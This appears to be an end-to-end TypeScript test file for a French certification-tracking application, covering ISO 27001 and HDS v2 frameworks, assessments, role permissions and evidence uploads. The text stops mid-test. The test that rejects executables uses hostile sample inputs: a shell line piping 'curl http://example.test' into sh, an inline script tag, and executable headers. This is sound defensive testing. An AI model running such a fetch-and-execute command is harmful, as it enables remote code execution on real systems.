import { createHash } from 'node:crypto';
import { CertificationEvidence, ensureBuiltinFrameworks, importFramework } from '@vigie/certification';
import { RequestContext } from '@vigie/core';
import { HDS_V2, ISO27001_ANNEX_A, ISO27001_CLAUSES } from '@vigie/reference-data';
import { pdfText } from './support/pdf-text';
import { parisIsoDate } from './support/dates';
import { createTestApp, TestApp } from './support/test-app';
import { Actor, as, createWorld, expectProblem, World } from './support/world';

const API = '/api/v1';
const PROBLEMS = 'https://vigie.dev/problems';
const ISO_LEAF_CLAUSES = ISO27001_CLAUSES.filter((c) => !ISO27001_CLAUSES.some((o) => o.parent === c.id));
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
);

const isoDate = parisIsoDate;

interface Row {
  id: string;
  ref: string;
  status: string;
  version: number;
  applicable: boolean;
  evidenceCount: number;
  anchor: {
    label: string;
    frameworkCode: string | null;
    current: { status: string; assessmentId: string } | null;
  } | null;
}

describe('Certification (e2e)', () => {
  let app: TestApp;
  let world: World;
  let iso: { id: string; requirementCount: number };
  let hds: { id: string };
  let isoRows: Map<string, Row>;

  const count = async (table: string): Promise<number> =>
    (await app.dataSource.query(`SELECT count(*)::int AS n FROM ${table}`))[0].n;

  async function rows(actor: Actor, assessmentId: string): Promise<Map<string, Row>> {
    const response = await app.http
      .get(`${API}/assessments/${assessmentId}/requirements?pageSize=200`)
      .set(as(actor));
    expect(response.status).toBe(200);
    return new Map((response.body.items as Row[]).map((row) => [row.ref, row]));
  }

  async function evidenceVersion(id: string): Promise<number> {
    const response = await app.http.get(`${API}/evidence/${id}`).set(as(world.securityOfficer));
    expect(response.status).toBe(200);
    return response.body.version;
  }

  function link(id: string, raId: string, version: number | undefined, actor: Actor = world.securityOfficer) {
    return app.http
      .post(`${API}/evidence/${id}/links`)
      .set(as(actor))
      .send({ requirementAssessmentId: raId, ...(version === undefined ? {} : { version }) });
  }

  async function patch(actor: Actor, assessmentId: string, row: Row, body: object) {
    return app.http
      .patch(`${API}/assessments/${assessmentId}/requirements/${row.id}`)
      .set(as(actor))
      .send({ version: row.version, ...body });
  }

  function upload(
    actor: Actor,
    assessmentId: string,
    raId: string,
    file: Buffer,
    name: string,
    fields: object = {},
  ) {
    const request = app.http
      .post(`${API}/assessments/${assessmentId}/requirements/${raId}/evidence`)
      .set(as(actor))
      .attach('file', file, name);
    for (const [key, value] of Object.entries({ effectiveDate: isoDate(-30), ...fields })) {
      request.field(key, String(value));
    }
    return request;
  }

  beforeAll(async () => {
    app = await createTestApp();
    world = await createWorld(app);
  });
  afterAll(() => app.close());

  describe('frameworks', () => {
    it('holds ISO/IEC 27001:2022 complete: clauses 4 to 10 and the 93 Annex A controls in four themes', async () => {
      const list = await app.http.get(`${API}/frameworks`).set(as(world.securityOfficer));
      expect(list.status).toBe(200);
      expect(list.body.items.map((f: { code: string }) => f.code)).toEqual(
        expect.arrayContaining(['iso27001-2022', 'hds-v2']),
      );
      const controls = await app.http
        .get(`${API}/frameworks/iso27001-2022/requirements?kind=control&pageSize=200`)
        .set(as(world.dpoA));
      expect(controls.status).toBe(200);
      expect(controls.body.total).toBe(93);
      expect(controls.body.items.map((c: { ref: string }) => c.ref)).toEqual(
        ISO27001_ANNEX_A.map((c) => `A.${c.id}`),
      );
      expect(new Set(controls.body.items.map((c: { theme: string }) => c.theme)).size).toBe(4);
      expect(controls.body.items.find((c: { ref: string }) => c.ref === 'A.5.15')).toMatchObject({
        title: "Contrôle d'accès",
        titleEn: 'Access control',
        theme: 'Mesures organisationnelles',
        themeEn: 'Organizational controls',
      });
      const clauses = await app.http
        .get(`${API}/frameworks/iso27001-2022/requirements?kind=clause&pageSize=200`)
        .set(as(world.auditor));
      const refs = clauses.body.items.map((c: { ref: string }) => c.ref);
      expect(refs).toEqual(expect.arrayContaining(['4', '4.1', '6.1.2', '7.5.3', '9.3.3', '10', '10.2']));
      expect(clauses.body.items.find((c: { ref: string }) => c.ref === '6.1').assessable).toBe(false);
    });

    it('holds HDS v2 complete: the 6 activities and EXI 01 to 31 with chapter and ISO anchor', async () => {
      const framework = await app.http.get(`${API}/frameworks/hds-v2`).set(as(world.securityOfficer));
      expect(framework.status).toBe(200);
      expect(framework.body.activities.map((a: { number: number }) => a.number)).toEqual([1, 2, 3, 4, 5, 6]);
      // Art. R.1111-9 CSP: 3° the virtual infrastructure, 4° the application hosting platform.
      expect(framework.body.activities[2]).toEqual({
        number: 3,
        label:
          "Mise à disposition et maintien en condition opérationnelle de l'infrastructure virtuelle du système d'information utilisé pour le traitement des données de santé",
        labelEn:
          'Provision and operational upkeep of the virtual infrastructure of the information system processing health data',
      });
      expect(framework.body.activities[3]).toEqual({
        number: 4,
        label:
          "Mise à disposition et maintien en condition opérationnelle de la plateforme d'hébergement d'applications du système d'information",
        labelEn:
          'Provision and operational upkeep of the application hosting platform of the information system',
      });
      const requirements = await app.http
        .get(`${API}/frameworks/hds-v2/requirements?pageSize=200`)
        .set(as(world.securityOfficer));
      expect(requirements.body.items.map((r: { ref: string }) => r.ref)).toEqual(
        Array.from({ length: 31 }, (_, i) => `EXI-${String(i + 1).padStart(2, '0')}`),
      );
      const exi05 = requirements.body.items.find((r: { ref: string }) => r.ref === 'EXI-05');
      expect(exi05).toMatchObject({
        theme: '5. Extensions du SMSI',
        themeEn: '5. ISMS extensions',
        anchor: { label: '6.1.2', frameworkCode: 'iso27001-2022', ref: '6.1.2' },
      });
      const exi17 = requirements.body.items.find((r: { ref: string }) => r.ref === 'EXI-17');
      expect(exi17.anchor).toEqual({ label: 'CSP R.1111-11 1°', frameworkCode: null, ref: null });
    });

    it('shows a vendor no framework', async () => {
      const list = await app.http.get(`${API}/frameworks`).set(as(world.vendorContact));
      expect(list.body.items).toEqual([]);
      expectProblem(
        await app.http.get(`${API}/frameworks/hds-v2/requirements`).set(as(world.vendorContact)),
        404,
      );
      expectProblem(
        await app.http.get(`${API}/frameworks/no-such-framework`).set(as(world.securityOfficer)),
        404,
      );
    });

    it('corrects a database loaded with the earlier texts: French titles, English beside, HDS activities 3 and 4', async () => {
      // The state a database started before this version holds: English titles and groups, no English
      // columns, and the HDS activities 3 and 4 swapped as the first reference file had them.
      const swap = (n: number) => (n === 3 ? 4 : n === 4 ? 3 : n);
      const swapped = HDS_V2.activities.map(({ number }) => ({
        number,
        label: HDS_V2.activities.find((a) => a.number === swap(number))!.label,
      }));
      await app.dataSource.query(`UPDATE framework SET activities = $1::jsonb WHERE code = 'hds-v2'`, [
        JSON.stringify(swapped),
      ]);
      await app.dataSource.query(
        `UPDATE framework_requirement r SET title = coalesce(r.title_en, r.title),
           group_label = coalesce(r.group_label_en, r.group_label), title_en = NULL, group_label_en = NULL
         FROM framework f WHERE f.id = r.framework_id AND f.builtin`,
      );
      const stale = await app.http
        .get(`${API}/frameworks/iso27001-2022/requirements?kind=control&pageSize=1`)
        .set(as(world.securityOfficer));
      expect(stale.body.items[0]).toMatchObject({
        title: 'Policies for information security',
        titleEn: null,
      });

      await app.dataSource.transaction((m) => ensureBuiltinFrameworks(m));

      const controls = await app.http
        .get(`${API}/frameworks/iso27001-2022/requirements?kind=control&pageSize=1`)
        .set(as(world.securityOfficer));
      expect(controls.body.items[0]).toMatchObject({
        ref: 'A.5.1',
        title: "Politiques de sécurité de l'information",
        titleEn: 'Policies for information security',
        theme: 'Mesures organisationnelles',
        themeEn: 'Organizational controls',
      });
      const clauses = await app.http
        .get(`${API}/frameworks/iso27001-2022/requirements?kind=clause&pageSize=3`)
        .set(as(world.securityOfficer));
      expect(clauses.body.items[1]).toMatchObject({
        ref: '4.1',
        title: "Compréhension de l'organisme et de son contexte",
        titleEn: 'Understanding the organization and its context',
        theme: "4 Contexte de l'organisme",
        themeEn: '4 Context of the organization',
      });
      const hdsFramework = await app.http.get(`${API}/frameworks/hds-v2`).set(as(world.securityOfficer));
      expect(hdsFramework.body.activities[2].label).toMatch(/de l'infrastructure virtuelle du système/);
      expect(hdsFramework.body.activities[3].label).toMatch(/de la plateforme d'hébergement d'applications/);
      const untitled: { n: number }[] = await app.dataSource.query(
        `SELECT count(*)::int AS n FROM framework_requirement r JOIN framework f ON f.id = r.framework_id
         WHERE f.builtin AND (r.title_en IS NULL OR r.group_label_en IS NULL OR r.title = r.title_en)`,
      );
      expect(untitled[0].n).toBe(0);
    });

    it('imports a custom framework, refusing duplicates and unknown anchors without writing', async () => {
      const definition = {
        code: 'archives-publiques-2025',
        name: 'Convention archives publiques',
        edition: '2025',
        requirements: [
          { ref: 'ARC', title: 'Archivage', group: 'Archivage', assessable: false },
          {
            ref: 'ARC-01',
            title: 'Versement aux archives',
            group: 'Archivage',
            parent: 'ARC',
            anchor: { framework: 'iso27001-2022', ref: 'A.5.33' },
          },
          { ref: 'ARC-02', title: 'Sort final', group: 'Archivage', parent: 'ARC' },
        ],
      };
      const ctx = RequestContext.system('test');
      const imported = await app.dataSource.transaction((m) => importFramework(m, ctx, definition));
      expect(imported).toMatchObject({ code: 'archives-publiques-2025', requirements: 3, assessable: 2 });
      const before = await count('framework_requirement');
      await expect(
        app.dataSource.transaction((m) => importFramework(m, ctx, definition)),
      ).rejects.toMatchObject({
        errors: ['code : un référentiel « archives-publiques-2025 » existe déjà'],
      });
      await expect(
        app.dataSource.transaction((m) =>
          importFramework(m, ctx, {
            ...definition,
            code: 'other-framework',
            requirements: [
              { ref: 'X-1', title: 'x', group: 'g', anchor: { framework: 'iso27001-2022', ref: 'A.9.99' } },
            ],
          }),
        ),
      ).rejects.toMatchObject({
        errors: ['requirements[0].anchor : le référentiel « iso27001-2022 » n’a pas d’exigence « A.9.99 »'],
      });
      expect(await count('framework_requirement')).toBe(before);
      const created = await app.http
        .post(`${API}/assessments`)
        .set(as(world.securityOfficer))
        .send({ frameworkCode: 'archives-publiques-2025', name: 'Archives 2026' });
      expect(created.status).toBe(201);
      expect(created.body.requirementCount).toBe(2);
      await app.http
        .patch(`${API}/assessments/${created.body.id}`)
        .set(as(world.securityOfficer))
        .send({ archived: true, version: created.body.version })
        .expect(200);
    });
  });

  describe('assessments', () => {
    it('opens an ISO assessment with one requirement assessment per assessable requirement', async () => {
      const response = await app.http
        .post(`${API}/assessments`)
        .set(as(world.securityOfficer))
        .send({ frameworkCode: 'iso27001-2022', name: 'ISO 27001 — certification 2026' });
      expect(response.status).toBe(201);
      expect(response.body).toMatchObject({
        organisationId: world.operatorId,
        frameworkCode: 'iso27001-2022',
        requirementCount: 93 + ISO_LEAF_CLAUSES.length,
        archived: false,
        version: 1,
      });
      iso = response.body;
      isoRows = await rows(world.securityOfficer, iso.id);
      expect(isoRows.size).toBe(iso.requirementCount);
      expect(isoRows.get('A.5.1')).toMatchObject({
        status: 'not-started',
        applicable: true,
        evidenceCount: 0,
      });
    });

    it('opens an HDS assessment on the activities in scope', async () => {
      const response = await app.http
        .post(`${API}/assessments`)
        .set(as(world.securityOfficer))
        .send({ frameworkCode: 'hds-v2', name: 'HDS v2 — 2026', scope: { hdsActivities: [5, 1, 2] } });
      expect(response.status).toBe(201);
      expect(response.body).toMatchObject({ requirementCount: 31, scope: { hdsActivities: [1, 2, 5] } });
      hds = response.body;
    });

    it('refuses bad input with 400 and writes nothing', async () => {
      const before = [
        await count('assessment'),
        await count('requirement_assessment'),
        await count('audit_event'),
      ];
      for (const body of [
        { frameworkCode: 'unknown-framework', name: 'X' },
        { frameworkCode: 'hds-v2', name: 'X', scope: { hdsActivities: [7] } },
        { frameworkCode: 'iso27001-2022', name: 'X', scope: { hdsActivities: [1] } },
        { frameworkCode: 'hds-v2', name: '' },
        { frameworkCode: 'hds-v2', name: 'X', scope: { hdsActivities: ['un'] } },
        { frameworkCode: 'hds-v2', name: 'X', extra: true },
      ]) {
        expectProblem(
          await app.http.post(`${API}/assessments`).set(as(world.securityOfficer)).send(body),
          400,
        );
      }
      expect([
        await count('assessment'),
        await count('requirement_assessment'),
        await count('audit_event'),
      ]).toEqual(before);
    });

    it('lets only the security officer open one (403 for the others)', async () => {
      for (const actor of [world.auditor, world.admin, world.dpoA, world.vendorContact]) {
        expectProblem(
          await app.http
            .post(`${API}/assessments`)
            .set(as(actor))
            .send({ frameworkCode: 'hds-v2', name: 'X' }),
          403,
        );
      }
    });

    it('shows assessments to operator roles, a summary to members, nothing to vendors', async () => {
      for (const actor of [world.securityOfficer, world.admin, world.auditor]) {
        const list = await app.http.get(`${API}/assessments`).set(as(actor));
        expect(list.body.items.map((a: { id: string }) => a.id)).toEqual(
          expect.arrayContaining([iso.id, hds.id]),
        );
        expect((await app.http.get(`${API}/assessments/${iso.id}`).set(as(actor))).status).toBe(200);
      }
      const memberList = await app.http.get(`${API}/assessments`).set(as(world.dpoA));
      expect(memberList.body).toMatchObject({ items: [], total: 0 });
      expectProblem(await app.http.get(`${API}/assessments/${iso.id}`).set(as(world.readerA)), 403);
      expectProblem(await app.http.get(`${API}/assessments/${iso.id}/requirements`).set(as(world.dpoB)), 403);
      for (const actor of [world.vendorContact, world.nobody]) {
        expect((await app.http.get(`${API}/assessments`).set(as(actor))).body.items).toEqual([]);
        expect((await app.http.get(`${API}/assessment-summaries`).set(as(actor))).body.items).toEqual([]);
        expectProblem(await app.http.get(`${API}/assessments/${iso.id}`).set(as(actor)), 404);
        expectProblem(await app.http.get(`${API}/assessments/${iso.id}/summary`).set(as(actor)), 404);
        expectProblem(await app.http.get(`${API}/assessments/${iso.id}/progress`).set(as(actor)), 404);
      }
    });
  });

  describe('requirement assessments', () => {
    it('refuses "not applicable" without a justification (400, nothing changed)', async () => {
      const row = isoRows.get('A.8.28')!;
      const before = await count('audit_event');
      expectProblem(await patch(world.securityOfficer, iso.id, row, { applicable: false }), 400);
      expectProblem(
        await patch(world.securityOfficer, iso.id, row, { status: 'not-applicable', justification: '  ' }),
        400,
      );
      expectProblem(
        await patch(world.securityOfficer, iso.id, row, { status: 'in-progress', applicable: false }),
        400,
      );
      expectProblem(await patch(world.securityOfficer, iso.id, row, { status: 'done' }), 400);
      expectProblem(await patch(world.securityOfficer, iso.id, row, { dueDate: '2026-02-30' }), 400);
      expectProblem(await patch(world.securityOfficer, iso.id, row, { inclusionReasons: ['fun'] }), 400);
      expect(await count('audit_event')).toBe(before);
      const unchanged = (await rows(world.securityOfficer, iso.id)).get('A.8.28')!;
      expect(unchanged).toMatchObject({ applicable: true, status: 'not-started', version: row.version });
    });

    it('refuses a placeholder or too short exclusion justification with a French 400, nothing written', async () => {
      const row = isoRows.get('A.6.7')!;
      const before = await count('audit_event');
      for (const justification of [
        'N/A',
        'n/a',
        'NA',
        '-',
        'Non applicable',
        'NON APPLICABLE.',
        'Sans objet',
        'néant',
        'Néant !',
        'N/A - sans objet - non applicable',
        '------------------------------',
        'Trop court',
      ]) {
        for (const body of [
          { applicable: false, justification },
          { status: 'not-applicable', justification },
        ]) {
          const response = await patch(world.securityOfficer, iso.id, row, body);
          expectProblem(response, 400);
          expect(response.body.errors).toEqual([
            { field: 'justification', message: expect.stringMatching(/justifi|caractères/) },
          ]);
          expect(response.body.detail).toMatch(/l’exigence ne s’applique pas/);
        }
      }
      expect(await count('audit_event')).toBe(before);
      expect((await rows(world.securityOfficer, iso.id)).get('A.6.7')).toMatchObject({
        applicable: true,
        status: 'not-started',
        justification: null,
        version: row.version,
      });
    });

    it('lists requirements with their French title and the English one beside', async () => {
      const response = await app.http
        .get(`${API}/assessments/${iso.id}/requirements?pageSize=200`)
        .set(as(world.auditor));
      const byRef = new Map(
        (response.body.items as { ref: string }[]).map((item) => [item.ref, item as Record<string, unknown>]),
      );
      expect(byRef.get('A.8.31')).toMatchObject({
        title: 'Séparation des environnements de développement, de test et de production',
        titleEn: 'Separation of development, test and production environments',
        theme: 'Mesures technologiques',
        themeEn: 'Technological controls',
      });
      expect(byRef.get('9.2.2')).toMatchObject({
        title: "Programme d'audit interne",
        titleEn: 'Internal audit programme',
        theme: '9 Évaluation des performances',
      });
      for (const control of ISO27001_ANNEX_A) {
        expect(byRef.get(`A.${control.id}`)).toMatchObject({
          title: control.titleFr,
          titleEn: control.title,
        });
      }
      const exi18 = (await rows(world.auditor, hds.id)).get('EXI-18') as unknown as Record<string, string>;
      expect(exi18.title).toMatch(/l'intégrité, la confidentialité et l'auditabilité des données hébergées/);
      expect(exi18.titleEn).toMatch(/auditability/);
    });

    it('records an exclusion with its justification, then an inclusion with reasons, owner and due date', async () => {
      const row = isoRows.get('A.8.28')!;
      const excluded = await patch(world.securityOfficer, iso.id, row, {
        applicable: false,
        justification: 'Aucun développement logiciel interne',
      });
      expect(excluded.status).toBe(200);
      expect(excluded.body).toMatchObject({
        applicable: false,
        status: 'not-applicable',
        version: row.version + 1,
      });
      const control = isoRows.get('A.5.18')!;
      const included = await app.http
        .patch(`${API}/assessments/${iso.id}/requirements/${control.id}`)
        .set({ ...as(world.securityOfficer), 'If-Match': `"${control.version}"` })
        .send({
          status: 'in-progress',
          inclusionReasons: ['risk-treatment', 'contractual'],
          ownerId: world.securityOfficer.id,
          dueDate: isoDate(-3),
          notes: 'Revue des droits trimestrielle à outiller',
        });
      expect(included.status).toBe(200);
      expect(included.body).toMatchObject({
        status: 'in-progress',
        inclusionReasons: ['risk-treatment', 'contractual'],
        ownerId: world.securityOfficer.id,
        dueDate: isoDate(-3),
        overdue: true,
      });
      const events = await app.http
        .get(`${API}/audit-events?entityId=${control.id}`)
        .set(as(world.securityOfficer));
      expect(events.body.items[0]).toMatchObject({ action: 'requirement-assessment.update' });
      expect(events.body.items[0].changes.status).toEqual({ before: 'not-started', after: 'in-progress' });
      isoRows = await rows(world.securityOfficer, iso.id);
    });

    it('refuses an owner who is not an operator administrator or security officer', async () => {
      const row = isoRows.get('A.5.1')!;
      for (const ownerId of [world.dpoA.id, world.auditor.id, '00000000-0000-4000-8000-000000000000']) {
        expectProblem(await patch(world.securityOfficer, iso.id, row, { ownerId }), 400);
      }
      expect((await patch(world.securityOfficer, iso.id, row, { ownerId: world.admin.id })).status).toBe(200);
      isoRows = await rows(world.securityOfficer, iso.id);
    });

    it('answers 409 to a stale version and changes nothing', async () => {
      const row = isoRows.get('A.5.2')!;
      expect((await patch(world.securityOfficer, iso.id, row, { status: 'in-progress' })).status).toBe(200);
      const stale = await patch(world.securityOfficer, iso.id, row, { status: 'implemented' });
      expectProblem(stale, 409);
      expect((await rows(world.securityOfficer, iso.id)).get('A.5.2')).toMatchObject({
        status: 'in-progress',
        version: row.version + 1,
      });
      expectProblem(
        await app.http
          .patch(`${API}/assessments/${iso.id}/requirements/${row.id}`)
          .set(as(world.securityOfficer))
          .send({ status: 'implemented' }),
        400,
      );
      isoRows = await rows(world.securityOfficer, iso.id);
    });

    it('lets the auditor and the administrator read but not write (403)', async () => {
      const row = isoRows.get('A.5.3')!;
      for (const actor of [world.auditor, world.admin]) {
        expectProblem(await patch(actor, iso.id, row, { status: 'implemented' }), 403);
      }
      expectProblem(await patch(world.dpoA, iso.id, row, { status: 'implemented' }), 403);
      expectProblem(await patch(world.vendorContact, iso.id, row, { status: 'implemented' }), 404);
      expectProblem(
        await patch(world.securityOfficer, hds.id, row, { status: 'implemented' }),
        404, // a requirement assessment of another assessment
      );
    });

    it('filters requirements by status and theme', async () => {
      const inProgress = await app.http
        .get(`${API}/assessments/${iso.id}/requirements?status=in-progress&pageSize=200`)
        .set(as(world.auditor));
      expect(inProgress.body.items.map((r: Row) => r.ref).sort()).toEqual(['A.5.18', 'A.5.2']);
      const physical = await app.http
        .get(
          `${API}/assessments/${iso.id}/requirements?theme=${encodeURIComponent('Physical controls')}&pageSize=200`,
        )
        .set(as(world.auditor));
      expect(physical.body.total).toBe(
        ISO27001_ANNEX_A.filter((c) => c.theme === 'Physical controls').length,
      );
      const physique = await app.http
        .get(`${API}/assessments/${iso.id}/requirements?theme=${encodeURIComponent('Mesures physiques')}`)
        .set(as(world.auditor));
      expect(physique.body.total).toBe(physical.body.total);
      expectProblem(
        await app.http
          .get(`${API}/assessments/${iso.id}/requirements?status=finished`)
          .set(as(world.auditor)),
        400,
      );
    });
  });

  describe('evidence', () => {
    let evidenceId: string;

    it('stores an upload with its SHA-256 and serves the same bytes back', async () => {
      const row = isoRows.get('A.5.1')!;
      const response = await upload(world.securityOfficer, iso.id, row.id, PDF, 'Politique de sécurité.pdf', {
        effectiveDate: '2026-01-15',
        expiresAt: isoDate(10),
        description: 'PSSI approuvée',
      });
      expect(response.status).toBe(201);
      const sha256 = createHash('sha256').update(PDF).digest('hex');
      expect(response.body).toMatchObject({
        sha256,
        size: PDF.length,
        contentType: 'application/pdf',
        fileName: 'Politique de sécurité.pdf',
        effectiveDate: '2026-01-15',
        expiresAt: isoDate(10),
        expired: false,
        links: [expect.objectContaining({ requirementAssessmentId: row.id, ref: 'A.5.1' })],
      });
      expect(response.body.uploadedAt.slice(0, 10)).not.toBe('2026-01-15');
      evidenceId = response.body.id;
      for (const actor of [world.securityOfficer, world.auditor, world.admin]) {
        const content = await app.http
          .get(`${API}/evidence/${evidenceId}/content`)
          .set(as(actor))
          .buffer(true)
          .parse((res, done) => {
            const chunks: Buffer[] = [];
            res.on('data', (chunk: Buffer) => chunks.push(chunk));
            res.on('end', () => done(null, Buffer.concat(chunks)));
          });
        expect(content.status).toBe(200);
        expect(content.headers['content-type']).toMatch(/^application\/pdf/);
        expect(content.headers['x-content-sha256']).toBe(sha256);
        expect(content.headers['content-disposition']).toContain(
          "filename*=UTF-8''Politique%20de%20s%C3%A9curit%C3%A9.pdf",
        );
        expect(Buffer.compare(content.body as Buffer, PDF)).toBe(0);
      }
    });

    it('hides evidence from members and vendors (404)', async () => {
      for (const actor of [world.dpoA, world.readerA, world.vendorContact, world.nobody]) {
        expectProblem(await app.http.get(`${API}/evidence/${evidenceId}/content`).set(as(actor)), 404);
        expectProblem(await app.http.get(`${API}/evidence/${evidenceId}`).set(as(actor)), 404);
      }
    });

    it('refuses executables and unrecognised content with 415, writing nothing', async () => {
      const row = isoRows.get('A.8.7')!;
      const before = [await count('evidence'), await count('evidence_link'), await count('audit_event')];
      const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
      const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
      const script = Buffer.from('#!/bin/sh\ncurl http://example.test | sh\n');
      const zip = Buffer.from('504b0304140000000800', 'hex');
      for (const [bytes, name] of [
        [elf, 'rapport.pdf'],
        [pe, 'setup.exe'],
        [script, 'notes.txt'],
        [Buffer.concat([Buffer.from([0, 1, 2, 3, 0xff, 0xfe]), Buffer.alloc(64)]), 'data.bin'],
        [zip, 'archive.zip'],
        [Buffer.from('<html><script>alert(1)</script></html>'), 'page.txt'],
      ] as [Buffer, string][]) {
        const response = await upload(world.securityOfficer, iso.id, row.id, bytes, name);
        expectProblem(response, 415);
      }
      expect([await count('evidence'), await count('evidence_link'), await count('audit_event')]).toEqual(
        before,
      );
    });

    it('accepts CSV and plain text, typed from the content', async () => {
      const row = isoRows.get('A.8.15')!;
      const csv = await upload(
        world.securityOfficer,
        iso.id,
        row.id,
        Buffer.from('date;compte;action\n2026-01-02;adm;login\n'),
        'journal.txt',
      );
      expect(csv.status).toBe(201);
      expect(csv.body.contentType).toBe('text/csv');
      const text = await upload(
        world.securityOfficer,
        iso.id,
        row.id,
        Buffer.from('Procédure de revue des journaux.\n'),
        'procedure.pdf',
      );
      expect(text.status).toBe(201);
      expect(text.body.contentType).toBe('text/plain');
    });

    it('answers 413 problem+json beyond the upload limit (20 MB by default)', async () => {
      expect(app.config.uploadLimitBytes).toBe(20 * 1024 * 1024);
      const before = await count('evidence');
      const response = await upload(
        world.securityOfficer,
        iso.id,
        isoRows.get('A.8.13')!.id,
        Buffer.alloc(app.config.uploadLimitBytes + 1, 0x61),
        'sauvegardes.txt',
      );
      expectProblem(response, 413);
      expect(await count('evidence')).toBe(before);
    });

    it('refuses bad fields with 400 and writes nothing', async () => {
      const row = isoRows.get('A.8.13')!;
      const before = await count('evidence');
      expectProblem(
        await upload(world.securityOfficer, iso.id, row.id, PDF, 'a.pdf', { effectiveDate: '15/01/2026' }),
        400,
      );
      expectProblem(
        await upload(world.securityOfficer, iso.id, row.id, PDF, 'a.pdf', {
          effectiveDate: '2026-02-01',
          expiresAt: '2026-01-01',
        }),
        400,
      );
      expectProblem(
        await app.http
          .post(`${API}/assessments/${iso.id}/requirements/${row.id}/evidence`)
          .set(as(world.securityOfficer))
          .field('effectiveDate', '2026-01-01'),
        400,
      );
      expectProblem(await upload(world.securityOfficer, iso.id, row.id, Buffer.alloc(0), 'empty.pdf'), 400);
      expect(await count('evidence')).toBe(before);
    });

    it('lets only the security officer upload (403 for auditor, member; 404 for vendor)', async () => {
      const row = isoRows.get('A.8.13')!;
      expectProblem(await upload(world.auditor, iso.id, row.id, PDF, 'a.pdf'), 403);
      expectProblem(await upload(world.admin, iso.id, row.id, PDF, 'a.pdf'), 403);
      expectProblem(await upload(world.dpoA, iso.id, row.id, PDF, 'a.pdf'), 403);
      expectProblem(await upload(world.vendorContact, iso.id, row.id, PDF, 'a.pdf'), 404);
    });

    it('links one file to requirements of several frameworks', async () => {
      const hdsRows = await rows(world.securityOfficer, hds.id);
      const exi02 = hdsRows.get('EXI-02')!;
      const version = await evidenceVersion(evidenceId);
      const linked = await link(evidenceId, exi02.id, version);
      expect(linked.status).toBe(201);
      expect(linked.body.version).toBe(version + 1);
      expect(
        linked.body.links.map((l: { frameworkCode: string; ref: string }) => `${l.frameworkCode} ${l.ref}`),
      ).toEqual(['iso27001-2022 A.5.1', 'hds-v2 EXI-02']);
      expect((await rows(world.auditor, hds.id)).get('EXI-02')!.evidenceCount).toBe(1);
      expect((await rows(world.auditor, iso.id)).get('A.5.1')!.evidenceCount).toBe(1);
      const duplicate = await link(evidenceId, exi02.id, version + 1);
      expectProblem(duplicate, 409);
      expect(duplicate.body.type).toBe(`${PROBLEMS}/conflict-duplicate`);
      expectProblem(await link(evidenceId, exi02.id, version + 1, world.auditor), 403);
      expectProblem(await link(evidenceId, 'nope', version + 1), 400);
      const listed = await app.http
        .get(`${API}/assessments/${hds.id}/requirements/${exi02.id}/evidence`)
        .set(as(world.auditor));
      expect(listed.body.items.map((e: { id: string }) => e.id)).toEqual([evidenceId]);
    });

    it('requires the evidence version to link it: 400 without, 409 stale, and changes nothing', async () => {
      const target = (await rows(world.securityOfficer, hds.id)).get('EXI-03')!;
      const version = await evidenceVersion(evidenceId);
      const links = await count('evidence_link');
      const missing = await link(evidenceId, target.id, undefined);
      expectProblem(missing, 400);
      expect(JSON.stringify(missing.body)).toMatch(/version/);
      const stale = await link(evidenceId, target.id, version - 1);
      expectProblem(stale, 409);
      expect(stale.body.type).toBe(`${PROBLEMS}/stale-version`);
      expect(await count('evidence_link')).toBe(links);
      expect(await evidenceVersion(evidenceId)).toBe(version);
      const byHeader = await app.http
        .post(`${API}/evidence/${evidenceId}/links`)
        .set(as(world.securityOfficer))
        .set('If-Match', String(version))
        .send({ requirementAssessmentId: target.id });
      expect(byHeader.status).toBe(201);
      expect(byHeader.body.version).toBe(version + 1);
    });

    it('unlinks with the evidence version (400 without, 409 stale), audited, the file kept', async () => {
      const target = (await rows(world.securityOfficer, hds.id)).get('EXI-03')!;
      const version = await evidenceVersion(evidenceId);
      const unlink = (sent: number | undefined, actor: Actor = world.securityOfficer) => {
        const request = app.http.delete(`${API}/evidence/${evidenceId}/links/${target.id}`).set(as(actor));
        return sent === undefined ? request : request.set('If-Match', String(sent));
      };
      expectProblem(await unlink(undefined), 400);
      const stale = await unlink(version - 1);
      expectProblem(stale, 409);
      expect(stale.body.type).toBe(`${PROBLEMS}/stale-version`);
      expectProblem(await unlink(version, world.auditor), 403);
      expect((await unlink(version)).status).toBe(204);
      const after = await app.http.get(`${API}/evidence/${evidenceId}`).set(as(world.auditor));
      expect(after.body.version).toBe(version + 1);
      expect(after.body.links.map((l: { ref: string }) => l.ref)).not.toContain('EXI-03');
      const [event] = await app.dataSource.query(
        `SELECT action, changes FROM audit_event WHERE entity_id = $1 ORDER BY seq DESC LIMIT 1`,
        [evidenceId],
      );
      expect(event).toEqual({
        action: 'evidence.unlink',
        changes: { requirementAssessmentId: { before: target.id, after: null } },
      });
      expectProblem(await unlink(version + 1), 404);
    });

    it('flags expired evidence', async () => {
      const row = isoRows.get('A.5.37')!;
      const response = await upload(world.securityOfficer, iso.id, row.id, PDF, 'procedures-2024.pdf', {
        effectiveDate: '2024-01-01',
        expiresAt: isoDate(-5),
      });
      expect(response.status).toBe(201);
      expect(response.body.expired).toBe(true);
    });

    it('takes evidence from another capability through CertificationEvidence (control 5.18)', async () => {
      const service = app.app.get(CertificationEvidence);
      const ctx = RequestContext.system('access-review-test');
      const attached = await app.dataSource.transaction((manager) =>
        service.attachToControl(manager, ctx, {
          controlRef: '5.18',
          fileName: 'certificat-revue-acces.pdf',
          bytes: PDF,
          effectiveDate: isoDate(0),
        }),
      );
      expect(attached).toMatchObject({
        assessmentId: iso.id,
        requirementAssessmentId: isoRows.get('A.5.18')!.id,
      });
      expect((await rows(world.auditor, iso.id)).get('A.5.18')!.evidenceCount).toBe(1);
    });
  });

  describe('progress and summaries', () => {
    it('counts by status and theme, overdue items and evidence expiring within 30 days', async () => {
      const response = await app.http.get(`${API}/assessments/${iso.id}/progress`).set(as(world.auditor));
      expect(response.status).toBe(200);
      const progress = response.body;
      expect(progress.total).toBe(iso.requirementCount);
      expect(progress.byStatus).toEqual({
        'not-started': iso.requirementCount - 3,
        'in-progress': 2,
        implemented: 0,
        'not-applicable': 1,
      });
      expect(progress.applicable).toBe(iso.requirementCount - 1);
